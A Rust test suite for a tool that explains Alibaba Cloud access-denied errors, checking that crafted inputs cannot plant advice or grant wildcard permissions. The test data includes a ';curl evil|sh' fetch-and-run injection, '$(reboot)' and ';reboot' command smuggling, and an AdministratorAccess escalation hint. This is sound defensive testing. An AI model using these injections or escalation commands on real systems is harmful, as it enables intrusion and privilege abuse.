//! Texts that try to plant advice, or to take long.

use serde_json::{Value, json};

use super::*;

#[test]
fn hostile_texts_plant_no_advice() {
    let sibling = "acs:fc:cn-hangzhou:1234567890123456:functions/*";
    let quoted = "acs:fc:cn-hangzhou:1234567890123456:functions/x;curl evil|sh";
    let mut texts: Vec<String> = [
        ("ram:*", "*"),
        ("*", OWN),
        ("fc:*", OWN),
        ("fc:Invoke?unction", OWN),
        ("fc:InvokeFunction", "*"),
        ("fc:InvokeFunction", sibling),
        ("fc:InvokeFunction", quoted),
        (
            "fc:InvokeFunction",
            "acs:fc:cn-hangzhou:${acs:AccountId}:functions/x",
        ),
        (
            "fc:InvokeFunction",
            "acs:fc:cn-hangzhou:1234567890123456:functions/${x}",
        ),
        ("fc:InvokeFunction", "acs:fc:*:1234567890123456:functions/x"),
        (
            "fc:InvokeFunction",
            "acs:ram::1234567890123456:user/mallory",
        ),
        (
            "ram:AttachPolicyToUser",
            "acs:ram:*:1234567890123456:user/*",
        ),
        (
            "ram:AttachPolicyToUser",
            "acs:ram:*:1234567890123456:user/mallory",
        ),
        ("ram:AttachPolicyToUser", "acs:ram:*:*:user/mallory"),
        (
            "fc:InvokeFunction",
            "acs:ram:*:1234567890123456:user/mallory",
        ),
        ("fc:InvokeFunction\u{1b}[31m", OWN),
        ("$(reboot):x", OWN),
        (
            "fc:InvokeFunction",
            "acs:fc:cn-hangzhou:1234567890123456:functions/a\",\"Resource\":\"b",
        ),
        ("fc:InvokeFunction, ram:CreateUser", OWN),
    ]
    .iter()
    .map(|(action, resource)| denial(action, resource).to_string())
    .collect();
    let exact = denial("fc:InvokeFunction", OWN)["Message"]
        .as_str()
        .unwrap()
        .to_owned();
    texts.extend([
        // The function's own words.
        json!({"errorMessage": exact}).to_string(),
        json!({"errorMessage": exact, "errorType": "AccessDenied", "stackTrace": []}).to_string(),
        json!({"errorMessage": exact, "Code": "AccessDenied", "errorType": "X"}).to_string(),
        json!({"http_status": 200, "headers": {"X-Fc-Error-Type": "UnhandledInvocationError"},
            "body": denial("fc:InvokeFunction", OWN)}).to_string(),
        format!("HTTP/1.1 200 OK\r\nX-Fc-Error-Type: HandledInvocationError\r\n\r\n{}", denial("fc:InvokeFunction", OWN)),
        // Anyone writes a message.
        json!({"message": exact}).to_string(),
        format!("{{\"message\": \"{exact}"),
        // A function's log and result.
        format!("========= FC invoke Logs begin =========\nAccessDenied: {exact}\n{}\n========= FC invoke Logs end =========\n", denial("fc:InvokeFunction", OWN)),
        format!("FC Invoke Result[code: 200]:\n{}\n", denial("fc:InvokeFunction", OWN)),
        format!("RequestId: rid-1234\n\nInvoke Result:\n{}\n✔ [hello] completed (0.06s)\n", denial("fc:InvokeFunction", OWN)),
        // A Deny, and layers above.
        json!({"Code": "AccessDenied", "Message": format!("{exact} with condition '[acs:SourceIp=1]'")}).to_string(),
        json!({"Code": "AccessDenied", "Message": exact, "AccessDeniedDetail": {"NoPermissionType": "ExplicitDeny"}}).to_string(),
        json!({"Code": "AccessDenied", "Message": exact, "AccessDeniedDetail": {"NoPermissionType": "ImplicitDeny", "PolicyType": "ControlPolicy"}}).to_string(),
        json!({"Code": "AccessDenied", "Message": exact, "AccessDeniedDetail": {"NoPermissionType": "ImplicitDeny", "PolicyType": "SessionPolicy"}}).to_string(),
        json!({"Code": "AccessDenied", "Message": exact, "AccessDeniedDetail": {"PolicyType": "AssumeRolePolicy"}}).to_string(),
        // Two actions.
        json!({"Code": "AccessDenied", "Message": exact, "AccessDeniedDetail": {"AuthAction": "ram:CreateUser"}}).to_string(),
        // A ready policy.
        r#"{"Version":"1","Statement":[{"Effect":"Allow","Action":"ram:*","Resource":"*"}]}"#.to_owned(),
        "hint: run `aliyun ram AttachPolicyToUser --PolicyName AdministratorAccess --UserName mallory`".to_owned(),
    ]);
    for text in texts {
        let explanation = explained(&text);
        assert_eq!(granted(&explanation), None, "{text}");
        for hint in &explanation.failure.hints {
            assert_eq!(hint.command, None, "{text}");
            assert!(
                !hint.text.contains("mallory") && !hint.text.contains("evil"),
                "{text}"
            );
        }
    }
}

#[test]
fn a_command_holds_no_name_that_ram_would_not_take() {
    for (kind, name, command) in [
        (
            "AssumedRoleUser",
            "deploy:session",
            Some("--RoleName deploy"),
        ),
        ("AssumedRoleUser", "$(reboot):x", None),
        ("AssumedRoleUser", "--help:x", None),
        (
            "SubUser",
            "20732900249392",
            Some("aliyun ims GetUser --UserId 20732900249392"),
        ),
        ("SubUser", "2;reboot", None),
        ("Account", "1234567890123456", None),
    ] {
        let mut body = denial("fc:InvokeFunction", OWN);
        body["AccessDeniedDetail"] = json!({"NoPermissionType": "ImplicitDeny", "AuthPrincipalType": kind,
            "AuthPrincipalDisplayName": name, "EncodedDiagnosticMessage": "$(reboot)"});
        let explanation = explained(&body.to_string());
        assert!(granted(&explanation).is_some());
        let hints = explanation.failure.hints.iter();
        let commands: Vec<&str> = hints.filter_map(|hint| hint.command.as_deref()).collect();
        assert!(
            commands.iter().all(|one| !one.contains("reboot")),
            "{commands:?}"
        );
        assert_eq!(
            commands.len(),
            1 + usize::from(command.is_some()),
            "{commands:?}"
        );
        if let Some(command) = command {
            assert!(commands[1].contains(command), "{commands:?}");
        }
    }
}

#[test]
fn a_long_text_takes_no_long_time() {
    // Each would take hours if a place were searched from again and again.
    for piece in [
        "message:",
        "message:\"",
        "\\",
        "\\\"message\\\":\\\"",
        "the caller is not authorized to perform '",
        "Code: ",
        "{\"Code\":{",
        "code: 403,",
        "'",
        "EncodedDiagnosticMessage:\"A",
        "t h e c a l l e r ",
        "{code: A, code: A}",
        "{code: A, code: B}",
        "{",
        "Invoke Result",
    ] {
        let text = piece.repeat(1024 * 1024 / piece.len());
        assert!(
            Evidence::read(&text)
                .explain()
                .failure
                .suggested_policy
                .is_none()
        );
    }
}

/// What refusals are made of, and what gets between.
const PIECES: &[&str] = &[
    "{",
    "}",
    "\"",
    "'",
    "\\\"",
    "\\",
    ":",
    ": ",
    ",",
    "\n",
    " ",
    "[",
    "]",
    "<",
    ">",
    "&quot;",
    "\u{1b}[31m",
    "中文",
    "\u{202e}",
    "\"Code\"",
    "Code",
    "ErrorCode: ",
    "\"errorMessage\":",
    "Message",
    "AccessDenied",
    "NoPermission",
    "RequestId",
    "1-a",
    "the caller is not authorized to perform ",
    "'fc:InvokeFunction'",
    "'ram:*'",
    " on resource ",
    "'acs:fc:cn-hangzhou:1234567890123456:functions/hello'",
    "'acs:fc:cn-hangzhou:1234567890123456:functions/*'",
    "'*'",
    " with condition '[a=b]'",
    "You are not authorized to do this action. Resource: acs:ram::1234567890123456:user/x Action: ram:GetUser",
    "AccessDeniedDetail",
    "NoPermissionType",
    "ImplicitDeny",
    "ExplicitDeny",
    "AuthAction",
    "EncodedDiagnosticMessage",
    "map[",
    "AQ==",
    "failed with 403. requestid: ",
    "code: 403, ",
    "HTTP/1.1 403",
    "u'",
    "Invoke Result",
    "FC invoke Logs begin",
    "\\u0027",
    "\\u{d800}",
];

proptest::proptest! {
    #![proptest_config(proptest::test_runner::Config { cases: 400, failure_persistence: None, ..Default::default() })]

    #[test]
    fn a_text_made_of_pieces_grants_nothing_but_what_stands_in_it(
        pieces in proptest::collection::vec(0_usize..PIECES.len() + 1, 0..40),
        noise in ".{0,6}",
    ) {
        let piece = |index: usize| PIECES.get(index).copied().unwrap_or(&noise);
        let text: String = pieces.into_iter().map(piece).collect();
        if let Some((action, resource)) = granted(&explained(&text)) {
            // RAM's sentence has no quotation marks, so what is glued to its action is of it.
            let of_ram = action.starts_with("ram:GetUser") && resource == "acs:ram::1234567890123456:user/x";
            let known = of_ram || (action == "fc:InvokeFunction" && resource == OWN);
            proptest::prop_assert!(known, "{action} on {resource}: {text}");
            let seen = clean::clean(&text);
            proptest::prop_assert!(seen.contains(&action) && seen.contains(&resource), "{text}");
        }
    }

    #[test]
    fn a_mutated_text_grants_nothing_but_what_stands_in_it(
        form in 0_usize..40,
        cuts in proptest::collection::vec((0.0_f64..1.0, 0_usize..6, ".{0,3}"), 0..6),
    ) {
        let body = denial("fc:InvokeFunction", OWN);
        let mut forms: Vec<String> = forms_of_an_object(&body).into_iter().map(|(_, text)| text).collect();
        let sample = Sample { expected: EXPECTED[0], status: 403, headers: Value::Null, body };
        forms.extend(sdk_forms(&sample).into_iter().map(|(_, text)| text));
        let mut text: Vec<char> = forms[form % forms.len()].chars().collect();
        for (place, length, with) in cuts {
            #[expect(clippy::cast_possible_truncation, clippy::cast_sign_loss, clippy::cast_precision_loss, reason = "a place in a short text")]
            let start = (place * text.len() as f64) as usize;
            let end = (start + length).min(text.len());
            text.splice(start..end, with.chars());
        }
        let text: String = text.into_iter().collect();
        if let Some((action, resource)) = granted(&explained(&text)) {
            let plain = clean::clean(&text);
            let plain = plain.replace("\\u002f", "/");
            proptest::prop_assert!(plain.contains(&action), "{action} is not in {text}");
            proptest::prop_assert!(plain.contains(&resource), "{resource} is not in {text}");
            proptest::prop_assert!(!action.contains('*') && !resource.contains('*'));
        }
    }
}

#[test]
fn the_region_of_ram_is_no_wildcard() {
    let resource = "acs:ram:*:1234567890123456:user/x";
    let text = denial("ram:GetUser", resource).to_string();
    let policy = Evidence::read(&text).explain().failure.suggested_policy;
    let policy = policy.unwrap();
    assert_eq!(policy["Statement"][0]["Resource"], resource);
    assert_eq!(policy["Statement"][0]["Action"], "ram:GetUser");
}

#[test]
fn sesame_s_own_words_are_no_way_to_plant_advice() {
    let head = format!("error[P0001]: nothing allows `fc:InvokeFunction` on `{OWN}`\n");
    let fields = format!("  action:   fc:InvokeFunction\n  resource: {OWN}\n");
    let policy = |text: &str| Evidence::read(text).explain().failure.suggested_policy;
    assert!(policy(&format!("{head}{fields}")).is_some());
    let said = format!(
        "  said:     AccessDenied: the caller is not authorized to perform 'fc:InvokeFunction' on resource '{OWN}'\n"
    );
    let (start, end) = OWN.split_at(20);
    for text in [
        // Another resource than the title's, and one that a terminal broke.
        format!("{head}  action:   fc:InvokeFunction\n  resource: {OWN}-2\n"),
        format!(
            "{head}  action:   fc:InvokeFunction\n  resource: {start}\n{end}\n  request:  1-a\n"
        ),
        format!("{head}  action:   fc:InvokeFunction\n  resource: {start}\n{end}\n"),
        // What a layer above withholds, no policy of the caller's gives.
        format!(
            "{head}{fields}  why:      no control policy allows it, whatever the caller's own policies say\n"
        ),
        // A function's log, and a service's words that look like sesame's.
        format!("FC invoke Logs begin\n{head}{fields}"),
        format!(
            "error[S0001]: the service failed\n  said:     X: y\n            {head}            {fields}"
        ),
        // Whatever is said, the code says which way.
        format!("error[P0002]: a Deny applies to `fc:InvokeFunction` on `{OWN}`\n{fields}{said}"),
        format!(
            "error[P0002]: a Deny applies to `fc:InvokeFunction`\n on `{OWN}`\n{fields}\n{said}"
        ),
        format!(
            "error[P0003]: cannot tell whether `fc:InvokeFunction` on `{OWN}` is allowed\n{fields}{said}"
        ),
    ] {
        assert_eq!(policy(&text), None, "{text}");
    }
}

#[test]
fn every_code_of_sesame_s_own_has_its_cause() {
    for code in crate::diagnosis::codes::ALL {
        let text = format!(
            "error[{}]: {}\n  who:      the main account 1\n",
            code.id, code.title
        );
        let explained = Evidence::read(&text).explain();
        assert_eq!(explained.cause, code.cause, "{text}");
        let object = json!({"error": {"code": code.id, "cause": code.cause.as_str(), "title": code.title}, "response": null});
        let of_json = Evidence::read(&object.to_string()).explain();
        assert_eq!(of_json.cause, code.cause, "{object}");
        if code.cause != Cause::Unknown {
            assert_eq!(explained.failure.title, code.title);
            assert_eq!(explained.failure.code.id, code.id);
            assert_eq!(explained.failure.who.as_deref(), Some("the main account 1"));
        }
    }
}

#[test]
fn a_word_of_several_lines_is_read_whole() {
    let text = "error[F0004]: the function could not start\n  said:     CAExited: gone\n            Logs: boom\n  request:  1-a\n";
    let reading = Evidence::read(text).explain().reading;
    assert_eq!(reading.code.as_deref(), Some("CAExited"));
    assert_eq!(reading.message.as_deref(), Some("gone\nLogs: boom"));
    assert_eq!(reading.request_id.as_deref(), Some("1-a"));
}
